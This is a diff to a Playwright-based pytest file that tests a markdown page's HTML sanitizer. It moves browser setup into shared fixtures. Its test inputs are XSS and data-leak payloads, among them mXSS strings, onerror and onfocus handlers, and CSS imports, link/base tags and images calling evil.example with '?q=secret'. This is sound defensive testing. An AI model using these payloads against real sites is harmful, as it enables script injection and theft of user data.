@@ -5,24 +5,28 @@ from __future__ import annotations
 from collections.abc import Iterator
 
 import pytest
-from playwright.sync_api import Page, expect, sync_playwright
+from playwright.sync_api import Browser, Page, expect
 
-from benchmarks.bench_markdown import CHROMIUM, FLAGS, build, served
+from benchmarks.bench_markdown import build, served
 
 PIXEL = "data:image/gif;base64,R0lGODlhAQABAAAAACw="
 
 
 @pytest.fixture(scope="module")
-def page(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Page]:
+def address(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
     directory = tmp_path_factory.mktemp("markdown-page")
     build(directory)
-    with sync_playwright() as playwright, served(directory) as address:
-        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=FLAGS)
-        page = browser.new_page()
+    with served(directory) as address:
+        yield address
+
+
+@pytest.fixture
+def page(browser: Browser, address: str) -> Iterator[Page]:
+    with browser.new_context() as context:
+        page = context.new_page()
         page.goto(address)
         page.wait_for_function("window.markdownPage")
         yield page
-        browser.close()
 
 
 @pytest.fixture(autouse=True)
@@ -32,7 +36,7 @@ def no_alarm(page: Page) -> Iterator[None]:
     page.on("request", lambda request: asked.append(request.url))
     page.evaluate("window.alarm = 0")
     yield
-    page.wait_for_timeout(50)
+    page.evaluate("markdownPage.idle(3)")
     assert page.evaluate("window.alarm") == 0
     assert not [url for url in asked if "evil" in url]
 
@@ -56,8 +60,8 @@ def show(page: Page, text: str) -> str:
         "<math><mtext><table><mglyph><style><!--</style>"
         "<img title='--&gt;&lt;img src=1 onerror=alarm=1&gt;'>",
         '<div><p <b onclick=alarm=1><img/src="x"/onerror=alarm=1>',
-        '<style>@import "https://evil.example/x.css"; * { background: url(//evil.example) }</style>',
-        '<link rel="stylesheet" href="https://evil.example/x.css"><base href="https://evil.example/">',
+        '<style>@import "//evil.example/x.css"; * { background: url(//evil.example) }</style>',
+        '<link rel="stylesheet" href="//evil.example/x.css"><base href="https://evil.example/">',
         '<img src="https://evil.example/x.png?q=secret"> and ![x](https://evil.example/y.png)',
         '<video src="//evil.example/v.mp4" autoplay></video><audio src="//evil.example/a"></audio>',
         '<input autofocus onfocus="alarm = 1"><form action="//evil"><button>x</button></form>',
